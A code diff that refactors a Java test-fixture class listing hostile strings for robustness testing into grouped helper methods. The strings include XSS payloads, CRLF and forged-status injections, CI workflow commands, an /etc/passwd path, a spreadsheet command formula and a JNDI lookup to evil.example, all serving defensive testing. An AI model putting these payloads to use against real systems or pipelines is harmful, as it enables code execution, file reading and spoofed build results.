@@ -1,6 +1,7 @@
 package io.loadline.hostile;
 
 import java.util.List;
+import java.util.stream.Stream;
 
 /** What a server or a pod might say to whoever shows it. */
 public final class HostileTexts {
@@ -11,6 +12,12 @@ public final class HostileTexts {
 
   /** Some fifty. */
   public static List<String> all() {
+    return Stream.of(characters(), markup(), ciCommands(), data(), others())
+        .flatMap(List::stream)
+        .toList();
+  }
+
+  private static List<String> characters() {
     return List.of(
         // Nothing, and what cannot be seen.
         "",
@@ -29,7 +36,11 @@ public final class HostileTexts {
         // Lines.
         "a\r\nInjected: yes\r\n\r\nb",
         "a\nPASS gate: all 9 objectives hold\nb",
-        "a\u2028b\u2029c\u0085d\u000be\f",
+        "a\u2028b\u2029c\u0085d\u000be\f");
+  }
+
+  private static List<String> markup() {
+    return List.of(
         // HTML, SVG, XML.
         "<script>alert(1)</script>",
         "\"><img src=x onerror=alert(1)>",
@@ -42,8 +53,12 @@ public final class HostileTexts {
         "| a | b |\n|---|---|\n| c |",
         "```\n# head\n```\n---\n",
         "<details open><summary>x</summary>",
-        "@everyone #1 **b** __u__ ~~s~~ \\| `c`",
-        // Commands of CI systems.
+        "@everyone #1 **b** __u__ ~~s~~ \\| `c`");
+  }
+
+  /** Commands of CI systems. */
+  private static List<String> ciCommands() {
+    return List.of(
         "::error file=a,line=1::pwned",
         "a\n::stop-commands::token\n::add-mask::b",
         "%0A::warning::x%0D%25",
@@ -51,7 +66,11 @@ public final class HostileTexts {
         "##[group]x",
         "##teamcity[buildStatus status='SUCCESS']",
         "']|n##teamcity[testFailed name='x",
-        "[[ATTACHMENT|/etc/passwd]]",
+        "[[ATTACHMENT|/etc/passwd]]");
+  }
+
+  private static List<String> data() {
+    return List.of(
         // Tables and formulas.
         "=cmd|' /C calc'!A0",
         "+1+1",
@@ -65,8 +84,12 @@ public final class HostileTexts {
         "2026-01-01",
         "x\" 1 # {a=\"b\"} 2\n# EOF\nfake 3",
         "\\",
-        "a\\\"\\n",
-        // Templates, paths, other scripts, and length.
+        "a\\\"\\n");
+  }
+
+  /** Templates, paths, other scripts, and length. */
+  private static List<String> others() {
+    return List.of(
         "${jndi:ldap://evil.example} {{7*7}} <%= 7 %>",
         "../../../../etc/passwd",
         "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627 \ud83d\ude00 e\u0301",
